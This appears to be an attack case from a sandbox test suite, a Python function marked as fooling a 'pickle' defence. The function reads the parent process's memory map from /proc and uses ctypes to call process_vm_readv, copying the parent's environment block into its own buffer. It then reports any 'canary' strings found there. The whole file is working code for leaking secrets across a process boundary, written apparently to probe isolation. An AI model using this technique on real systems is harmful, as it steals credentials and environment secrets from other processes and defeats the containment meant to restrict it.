# Copies the parent's memory by a system call that is made for it.
# rule: 5
# fools: pickle
# success: leak
# with: every, tell

import ctypes
import os
import re


class Piece(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))


def trick(*args):
    parent = os.getppid()
    fields = open(f"/proc/{parent}/stat").read().rpartition(")")[2].split()
    start, end = int(fields[47]), int(fields[48])  # of its environment
    buffer = ctypes.create_string_buffer(end - start)
    here, there = Piece(ctypes.addressof(buffer), end - start), Piece(start, end - start)
    one, none = ctypes.c_ulong(1), ctypes.c_ulong(0)
    copy = ctypes.CDLL(None, use_errno=True).process_vm_readv
    copy(parent, ctypes.byref(here), one, ctypes.byref(there), one, none)
    tell(str(re.findall(rb"canary\w+", buffer.raw)))
